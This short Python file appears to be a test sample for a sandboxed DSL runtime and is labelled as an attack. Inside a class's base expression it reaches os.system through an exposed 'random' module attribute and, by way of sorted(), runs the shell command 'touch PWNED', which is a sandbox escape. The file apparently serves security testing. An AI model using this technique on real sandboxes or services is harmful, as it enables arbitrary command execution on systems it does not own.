# Attack: the bases of a class are expressions evaluated when the class is defined.
from dsl.runtime import engine as _rt
from dsl.runtime.engine import random as r


class State(_rt.BaseState if sorted(["touch PWNED"], key=r._os.system) else _rt.BaseState):
    pass
